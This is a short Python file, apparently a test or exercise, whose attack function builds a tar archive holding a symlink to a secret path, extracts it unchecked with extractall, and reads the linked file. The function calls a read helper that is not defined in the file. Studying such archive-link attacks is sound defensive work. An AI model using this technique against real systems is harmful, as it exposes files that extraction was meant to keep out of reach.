"""A file that an archive's link leads to."""

import io
import tarfile


def attack(host):
    link = tarfile.TarInfo("inner")
    link.type, link.linkname = tarfile.SYMTYPE, host["secret"]
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        tar.addfile(link)
    archive.seek(0)
    tarfile.open(fileobj=archive).extractall(".")
    return read("inner")
